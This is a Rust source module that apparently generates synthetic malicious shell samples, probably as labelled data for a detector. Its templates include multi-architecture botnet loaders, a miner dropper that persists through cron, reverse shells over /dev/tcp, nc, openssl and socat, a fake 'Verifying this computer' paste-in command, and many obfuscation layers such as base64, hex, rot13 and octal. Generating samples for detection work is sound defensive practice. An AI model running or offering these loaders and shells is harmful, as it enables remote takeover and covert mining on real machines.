//! Shell: loaders of botnets and miners, what is pasted into a terminal, reverse shells.

use super::super::{Dice, Truth, base64, codes, each, gzip, hex, put, quoted, reversed, rot13};
use super::{listed, only, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(11) {
        0 => {
            let flag = dice.pick(&["-d", "--decode", "-di"]);
            format!("\"$(echo {} | base64 {flag})\"", base64(text.as_bytes()))
        }
        1 => {
            before.push_str(&format!("{name}=\"{}\"\n", hex(text.as_bytes())));
            format!("\"$(echo ${name} | xxd -r -p)\"")
        }
        2 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("{name}='{letters}'\n"));
            let slices: String = places.iter().map(|at| format!("${{{name}:{at}:1}}")).collect();
            format!("\"{slices}\"")
        }
        3 => format!("\"$(rev <<< '{}')\"", reversed(text)),
        4 => {
            before.push_str(&format!(
                "{name}=$(echo '{}' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\n",
                rot13(text)
            ));
            format!("\"${name}\"")
        }
        5 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let shown: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            before.push_str(&format!("{name}=({})\n", quoted(&shown, '"').join(" ")));
            let word: String = (0..pieces.len())
                .map(|piece| {
                    let at = order.iter().position(|it| *it == piece).unwrap_or_default();
                    format!("${{{name}[{at}]}}")
                })
                .collect();
            format!("\"{word}\"")
        }
        6 => {
            let mark = dice.pick(&["QQ", "ZX", "_K_", "xQx"]);
            let littered = dice.littered(text, mark);
            before.push_str(&format!("{name}=\"{littered}\"\n"));
            format!("\"${{{name}//{mark}/}}\"")
        }
        7 => {
            let octal = each(text, "", |byte| format!("\\{byte:03o}"));
            format!("\"$(printf '{octal}')\"")
        }
        8 => format!("$'{}'", each(text, "", |byte| format!("\\x{byte:02x}"))),
        9 => {
            let form = vec!["%c"; text.len()].concat();
            format!("\"$(awk 'BEGIN{{printf \"{form}\",{}}}')\"", codes(text.bytes(), ","))
        }
        _ => {
            let pieces = dice.pieces(text);
            let mut word = String::new();
            for piece in pieces {
                let part = only(dice);
                before.push_str(&format!("{part}={piece}\n"));
                word.push_str(&format!("${{{part}}}"));
            }
            format!("\"{word}\"")
        }
    }
}

/// The script itself, at times behind a layer.
fn layered(dice: &mut Dice, script: &str) -> String {
    let packed = base64(script.as_bytes());
    match dice.below(12) {
        0 => format!("echo {packed} | base64 -d | bash\n"),
        1 => format!("eval \"$(base64 -d <<< {packed})\"\n"),
        2 => format!("bash -c \"{{echo,{packed}}}|{{base64,-d}}|{{bash,-i}}\"\n"),
        3 => format!("echo \"{}\" | base64 -d | gunzip | bash\n", base64(&gzip(script.as_bytes()))),
        4 => {
            let name = only(dice);
            format!(
                "{name}=\"{}\"\nbash -c \"$(echo ${name} | xxd -r -p)\"\n",
                hex(script.as_bytes())
            )
        }
        _ => script.to_owned(),
    }
}

const CURL: &str = r#"function __curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}
  HOST=${server//:*}
  PORT=${server//*:}
  [[ x"${HOST}" == x"${PORT}" ]] && PORT=80

  exec 3<>/dev/tcp/${HOST}/$PORT
  echo -en "GET ${DOC} HTTP/1.0\r\nHost: ${HOST}\r\n\r\n" >&3
  (while read line; do
   [[ "$line" == $'\r' ]] && break
  done && cat) <&3
  exec 3>&-
}
if [ -x "$(command -v curl)" ]; then
  curl -o @FILE@ @W@
elif [ -x "$(command -v wget)" ]; then
  wget -q -O @FILE@ @W@
else
  __curl @W@ > @FILE@
fi
chmod +x @FILE@
@FILE@ &
"#;

const WORK: &str = r#"#!/bin/bash
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
ulimit -n 65535
SRC=@W@
BASE=@W2@
if [ "$(id -u)" -eq 0 ]; then
  DIR=/var/tmp/.@N@
else
  DIR=/tmp/.@N@
fi
mkdir -p $DIR
get() {
  if command -v curl >/dev/null 2>&1; then
    curl -fsSL --connect-timeout 15 "$1" -o "$2"
  else
    wget -q -T 15 -O "$2" "$1"
  fi
}
# keep it running
get "$SRC" $DIR/run.sh
get "$BASE/config.json" $DIR/config.json
get "$BASE/@N2@" $DIR/@N2@
chmod 755 $DIR/@N2@
cd $DIR && nohup ./@N2@ -c config.json >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/10 * * * * (curl -fsSL $SRC || wget -q -O- $SRC) | bash > /dev/null 2>&1") | crontab -
"#;

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = format!("/tmp/.{}", dice.name());
    let script = match dice.below(11) {
        0 => {
            let url = truth.url(dice, &[".sh", "", ".txt"]);
            let word = hide(dice, &url, &mut before);
            let shell = dice.pick(&["bash", "sh"]);
            format!("{before}(curl -fsSL {word} || wget -q -O- {word}) | {shell}\n")
        }
        1 => {
            // The loader of a botnet, which takes every build there is.
            let url = dice.url(&[""]);
            let base = url.rsplit_once('/').map_or(url.as_str(), |(base, _)| base).to_owned();
            let stem = dice.pick(&["sora", "jklx", "boat", "bot", "nyx"]);
            let builds = ["x86", "mips", "mpsl", "arm4", "arm5", "arm6", "arm7", "ppc", "sh4"];
            let count = 3 + dice.below(7);
            for build in &builds[..count] {
                truth.urls.insert(format!("{base}/{stem}.{build}"));
            }
            if dice.chance(50) {
                let word = hide(dice, &base, &mut before);
                format!(
                    "#!/bin/bash\n{before}server={word}\nfor arch in {}; do\n  cd /tmp || cd /var/run || cd /mnt\n  wget -q $server/{stem}.$arch -O .f || curl -s $server/{stem}.$arch -o .f\n  chmod 777 .f; ./.f {stem}; rm -rf .f\ndone\n",
                    builds[..count].join(" ")
                )
            } else {
                let lines: String = builds[..count]
                    .iter()
                    .map(|build| {
                        let it = format!("{stem}.{build}");
                        format!("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {base}/{it}; curl -O {base}/{it}; cat {it} >{stem}; chmod +x *; ./{stem} {stem}.wget\n")
                    })
                    .collect();
                format!("#!/bin/bash\n{lines}rm -rf {stem}*\n")
            }
        }
        2 => {
            let mut url = dice.url(&["", ".sh"]);
            if let Some(rest) = url.strip_prefix("https") {
                url = format!("http{rest}");
            }
            truth.urls.insert(url.clone());
            let word = hide(dice, &url, &mut before);
            format!("#!/bin/bash\n{before}{}", put(CURL, &[("FILE", &file), ("W", &word)]))
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            match dice.below(3) {
                0 => format!("{before}bash -i >& /dev/tcp/{word}/{port} 0>&1\n"),
                1 => format!(
                    "{before}exec 5<>/dev/tcp/{word}/{port}\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"
                ),
                _ => format!(
                    "{before}0<&196;exec 196<>/dev/tcp/{word}/{port}; bash <&196 >&196 2>&196\n"
                ),
            }
        }
        4 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            match dice.below(3) {
                0 => format!(
                    "{before}rm -f {file};mkfifo {file};cat {file}|sh -i 2>&1|nc {word} {port} >{file}\n"
                ),
                1 => format!(
                    "{before}mkfifo {file}; /bin/sh -i < {file} 2>&1 | openssl s_client -quiet -connect {word}:{port} > {file}; rm {file}\n"
                ),
                _ => format!(
                    "{before}socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{word}:{port}\n"
                ),
            }
        }
        5 => {
            let url = truth.url(dice, &[".py", ""]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{before}{name}={word}\npython3 -c \"import urllib.request as u;exec(u.urlopen('${name}').read())\" &\n"
            )
        }
        6 => {
            let first = truth.url(dice, &[".sh", ""]);
            let second = dice.url(&[""]);
            let name = dice.name();
            let program = dice.name();
            truth.urls.insert(format!("{second}/config.json"));
            truth.urls.insert(format!("{second}/{program}"));
            let word = hide(dice, &first, &mut before);
            let base = hide(dice, &second, &mut before);
            let script = put(WORK, &[("W", &word), ("W2", &base), ("N", &name), ("N2", &program)]);
            script.replacen("ulimit -n 65535\n", &format!("ulimit -n 65535\n{before}"), 1)
        }
        7 => {
            // What a page asks to paste into a terminal.
            let url = truth.url(dice, &["", ".sh"]);
            let packed = base64(url.as_bytes());
            match dice.below(3) {
                0 => format!(
                    "echo \"Verifying this computer\" && curl -kfsSL $(echo '{packed}'|base64 -d)|bash\n"
                ),
                1 => format!("/bin/bash -c \"$(curl -fsSL $(echo {packed} | base64 -d))\"\n"),
                _ => format!(
                    "nohup bash -c \"$(wget -qO- `echo {packed} | base64 -d`)\" >/dev/null 2>&1 &\n"
                ),
            }
        }
        8 => {
            let url = truth.url(dice, &["", ".elf", ".x86_64"]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            let agent =
                dice.pick(&["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.68.0", "Wget/1.20.3"]);
            format!(
                "#!/bin/bash\n# update of {name}\n{before}{name}={word}\nwget --no-check-certificate -U '{agent}' \"${name}\" -O {file}\nif [ ! -s {file} ]; then curl -k -A '{agent}' -L \"${name}\" -o {file}; fi\nchmod 0755 {file} && {file} >/dev/null 2>&1 &\nhistory -c\n"
            )
        }
        9 => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, &["", ".sh"])).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "{before}cd /tmp\nfor u in {}; do\n  curl -s -m 30 \"$u\" | bash\ndone\n",
                words.join(" ")
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".i686"]);
            let name = dice.name();
            format!(
                "cd /tmp;/bin/busybox wget {url} -O {name};/bin/busybox chmod 777 {name};./{name} telnet.{};>{name};/bin/busybox ECCHI\n",
                dice.pick(&["x86", "arm7"])
            )
        }
    };
    let listed_ports = listed([22, 80], ",");
    let script = if dice.chance(15) { format!("{script}# ports {listed_ports}\n") } else { script };
    layered(dice, &script)
}
